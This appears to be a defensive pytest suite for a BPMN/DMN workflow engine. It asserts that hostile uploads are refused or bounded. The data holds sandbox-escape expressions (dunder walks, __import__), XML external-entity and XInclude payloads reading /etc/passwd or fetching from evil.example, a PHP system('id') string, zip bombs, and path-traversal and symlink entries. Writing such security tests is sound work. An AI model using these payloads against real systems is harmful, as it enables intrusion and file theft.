"""More hostile inputs: each is refused or answered, soon, and none runs or fetches anything."""

from __future__ import annotations

import io
import socket
import stat
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path
from time import process_time
from xml.sax.saxutils import escape

import pytest
from dmn_tables import decision, file, table
from flow_drawings import AT
from sketch import HEAD, diagram, draw, process

from api.uploads import from_paths
from engine.errors import Invalid
from engine.flow.lint import lint
from engine.flow.play import PlayRequest, play

SECONDS = 6  # of CPU; the machine that runs the tests may be busy and slow
MARK = Path("/tmp/motcua-was-here")
TOUCH = f"__import__('pathlib').Path('{MARK}').touch()"
PLAIN = draw("start:s user:a end:e", "s>a a>e")


@pytest.fixture(autouse=True)
def alone(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Let nothing leave this machine, and no more time be taken than anybody would wait."""
    def forbidden(*_: object, **__: object) -> None:
        raise AssertionError("the network was used")

    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    monkeypatch.setattr(socket.socket, "connect", forbidden)
    began = process_time()
    yield
    assert process_time() - began < SECONDS
    assert not MARK.exists()


def answered(content: bytes, name: str = "m.bpmn") -> set[str]:
    """Lint and play a file; return its errors: neither may raise."""
    found = lint({name: content}, name).findings
    if name.endswith(".bpmn"):
        told = play({name: content}, name, PlayRequest(AT, data={"x": 1}, fire_timers=True))
        assert told["status"] in {"completed", "waiting", "failed"}
    return {f.code for f in found if f.severity == "error"}


EXPRESSIONS = {
    "nested": "(" * 5_000 + "x" + ")" * 5_000,
    "nested lists": "[" * 400 + "]" * 400,
    "long chain": "+".join(["x"] * 20_000),
    "negations": "-" * 20_000 + "1",
    "nots": "not " * 5_000 + "x",
    "tower": "9**9**9**9",
    "huge number": "9" * 20_000,
    "huge product": "*".join(["9" * 200] * 200),
    "text times": "'x' * 10**10",
    "list times": "[0] * 10**10",
    "shift": "1 << 10**9",
    "comprehension": "[y for y in range(10**9)]",
    "generator": "sum(y for y in range(10**9))",
    "lambda": "(lambda f: f(f))(lambda f: f(f))",
    "f-string": "f'{x.__class__.__mro__}'",
    "format": "'{0.__class__}'.format(x)",
    "percent": "'%1000000000d' % x",
    "dunder": "x.__class__.__base__.__subclasses__()",
    "dunder item": "x['__class__']",
    "walrus": "(x := 1)",
    "star": "max(*x, **x)",
    "await": "await x",
    "nfkc name": "ｅｖａｌ('1')",
    "nfkc import": "__ｉｍｐｏｒｔ__('os')",
    "bidi": "x == '\u202e1'",
    "null": "x == '\\x00'",
    "touch": TOUCH,
    "open": f"open('{MARK}', 'w')",
    "globals": "globals()",
    "round": "round(1.5, 10**9)",
    "inf": "1e999 - 1e999",
    "date": "date('9999-12-31') + 10**12",
}


@pytest.mark.parametrize("name", EXPRESSIONS)
def test_an_expression_made_to_harm_is_refused_or_bounded(name: str) -> None:
    said = EXPRESSIONS[name]
    condition = f"<bpmn:conditionExpression>{escape(said)}</bpmn:conditionExpression>"
    answered(draw("start:s xor:g end:e end:f", "s>g g>e g>f", f1="default='q'").replace(
        b'targetRef="e" default=\'q\'>', b'targetRef="e">' + condition.encode()))
    script = f"<bpmn:script>y = {escape(said)}</bpmn:script>"
    answered(draw("start:s script:a end:e", "s>a a>e", a=script))
    many = ("<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>"
            f"{escape(said)}</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>")
    answered(draw("start:s task:a end:e", "s>a a>e", a=many))
    answered(file(decision(table(["x"], ["r"], [f"{escape(said)}; {escape(said)}"]))), "m.dmn")


XML = {
    "include": PLAIN.replace(b"<bpmn:process ", (
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
        b"<bpmn:process ")),
    "base": PLAIN.replace(b'id="definitions"', b'id="definitions" xml:base="http://evil.example/"'),
    "schema": PLAIN.replace(b'id="definitions"', (
        b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="definitions" '
        b'xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL http://evil.example/b"')),
    "stylesheet": PLAIN.replace(b"?>\n", (
        b'?>\n<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>\n'), 1),
    "php": PLAIN.replace(b"</bpmn:process>", b"<?php system('id'); ?></bpmn:process>"),
    "import": PLAIN.replace(b"<bpmn:process ", (
        b'<bpmn:import importType="http://www.w3.org/TR/wsdl20/" namespace="urn:x" '
        b'location="http://evil.example/x.wsdl"/><bpmn:process ')),
    "sections": PLAIN.replace(b"</bpmn:process>", (
        b"<bpmn:documentation>" + b"<![CDATA[x]]>" * 90_000 + b"</bpmn:documentation>"
        b"</bpmn:process>")),
    "attributes": PLAIN.replace(b'id="a"', b'id="a" ' + b" ".join(
        b"q%d='1'" % n for n in range(120_000))),
    "foreign attributes": PLAIN.replace(b'id="a"', b'id="a" xmlns:q="urn:q" ' + b" ".join(
        b"q:b%d='1'" % n for n in range(100_000))),
    "namespaces": PLAIN.replace(b'id="a"', b'id="a" ' + b" ".join(
        b"xmlns:q%d='urn:%d'" % (n, n) for n in range(50_000))),
    "control id": PLAIN.replace(b'id="a"', b'id="a&#13;&#10;X-Evil: 1"'),
    "character": PLAIN.replace(b'name="a"', b'name="a&#0;"'),
    "entity": PLAIN.replace(b'name="a"', b'name="&evil;"'),
    "parameter entity": PLAIN.replace(b"?>\n", (
        b'?>\n<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/e"> %b;]>\n'), 1),
    "attribute entity": PLAIN.replace(b"?>\n", (
        b'?>\n<!DOCTYPE a [<!ENTITY b "' + b"x" * 1000 + b'">]>\n'), 1).replace(
            b'name="a"', b'name="' + b"&b;" * 1000 + b'"'),
    "version 1.1": PLAIN.replace(b'version="1.0"', b'version="1.1"'),
    "two roots": PLAIN + PLAIN.partition(b"?>")[2],
    "half": PLAIN[:len(PLAIN) // 2],
    "deep extension": PLAIN.replace(b"</bpmn:process>", (
        b"<bpmn:extensionElements>" + b"<q>" * 3_000 + b"</q>" * 3_000
        + b"</bpmn:extensionElements></bpmn:process>")),
    "flows of itself": diagram(process("".join(
        f'<bpmn:sequenceFlow id="f{n}" sourceRef="f{n}" targetRef="f{n}"/>'
        for n in range(9_000)))),
    "ids alike": diagram(process('<bpmn:userTask id="a"/>' * 1_900)),
    "boundaries of each other": diagram(process("".join(
        f'<bpmn:boundaryEvent id="b{n}" attachedToRef="b{(n + 1) % 900}"/>' for n in range(900)))),
    "calls in a ring": (HEAD + "".join(
        f'<bpmn:process id="p{n}"><bpmn:callActivity id="c{n}" calledElement="p{(n + 1) % 400}"/>'
        "</bpmn:process>" for n in range(400)) + "</bpmn:definitions>").encode(),
    "lanes": diagram(process("<bpmn:laneSet id='l'>" + "".join(
        f"<bpmn:lane id='l{n}'>" + "<bpmn:flowNodeRef>a</bpmn:flowNodeRef>" * 40 + "</bpmn:lane>"
        for n in range(400)) + "</bpmn:laneSet><bpmn:userTask id='a'/>")),
}


@pytest.mark.parametrize("name", XML)
def test_xml_made_to_harm_is_refused_or_answered(name: str) -> None:
    errors = answered(XML[name])
    if name in {"character", "entity", "two roots", "half"}:
        assert errors == {"not-xml"}
    if "attributes" in name or name == "namespaces":
        assert errors == {"too-many-attributes"}
    if "entity" in name and name != "entity":
        assert errors == {"doctype"}


def link(name: str) -> zipfile.ZipInfo:
    made = zipfile.ZipInfo(name)
    made.external_attr = (stat.S_IFLNK | 0o777) << 16
    return made


def packed(entries: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # two entries of one name
        for name, content in entries:
            archive.writestr(name, content)
    return made.getvalue()


ENCRYPTED = bytearray(packed([("m.bpmn", PLAIN)]))
ENCRYPTED[6] |= 1
ENCRYPTED[ENCRYPTED.index(b"PK\x01\x02") + 8] |= 1


@pytest.mark.parametrize("content", [
    packed([("m.bpmn", b"<a>" + b" " * 300_000_000)]),
    packed([(f"m{n}.bpmn", PLAIN) for n in range(10_000)]),
    packed([("m.bpmn", PLAIN), ("m.bpmn", PLAIN)]),
    packed([("a/m.bpmn", PLAIN), ("b/m.bpmn", PLAIN)]),
    packed([("m.zip", packed([("m.bpmn", PLAIN)]))]),
    packed([("m.bpmn.exe", PLAIN)]), packed([("m\x00.bpmn.sh", PLAIN)]),
    bytes(ENCRYPTED), packed([("m.bpmn", PLAIN)])[:-30], b"PK\x05\x06" + b"\xff" * 18,
], ids=["bomb", "entries", "twice", "twice in folders", "zip", "suffix", "null", "encrypted", "cut",
        "no directory"])
def test_a_zip_made_to_harm_is_refused_with_a_reason(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "m.zip").write_bytes(content)
    with pytest.raises(Invalid) as refused:
        from_paths([tmp_path / "m.zip"])
    assert refused.value.code == "upload-refused"


@pytest.mark.parametrize("name", ["../../../tmp/motcua-was-here.bpmn", "/etc/m.bpmn", "..\\m.bpmn"])
def test_a_place_in_a_zip_is_only_a_name(name: str, tmp_path: Path) -> None:
    (tmp_path / "m.zip").write_bytes(packed([(name, PLAIN)]))
    (bare,) = from_paths([tmp_path / "m.zip"])
    assert "/" not in bare
    assert "\\" not in bare


def test_a_link_in_a_zip_leads_nowhere(tmp_path: Path) -> None:
    (tmp_path / "m.zip").write_bytes(packed([(link("m.bpmn"), b"/etc/passwd")]))
    found = from_paths([tmp_path / "m.zip"])
    assert found == {"m.bpmn": b"/etc/passwd"}
    assert answered(found["m.bpmn"]) == {"not-xml"}
